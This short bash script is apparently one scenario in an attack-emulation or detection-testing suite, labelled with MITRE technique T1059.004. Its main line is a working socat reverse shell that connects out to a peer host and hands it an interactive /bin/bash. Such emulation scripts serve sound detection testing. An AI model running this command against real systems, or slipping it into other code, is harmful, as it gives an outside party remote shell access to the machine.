#!/usr/bin/env bash
# Reverse shell: `socat TCP:PEER:PORT EXEC:/bin/bash,stderr` (bash runs on a socketpair fed by socat).
. "$(dirname "$0")/../lib.sh"
scn_begin revshell-socat T1059.004
scn_require socat
scn_attacker_listen 4448
socat "TCP:$SCN_PEER:$SCN_PORT" EXEC:'/bin/bash -i',stderr 2>/dev/null &
scn_track $!
scn_shell_finish
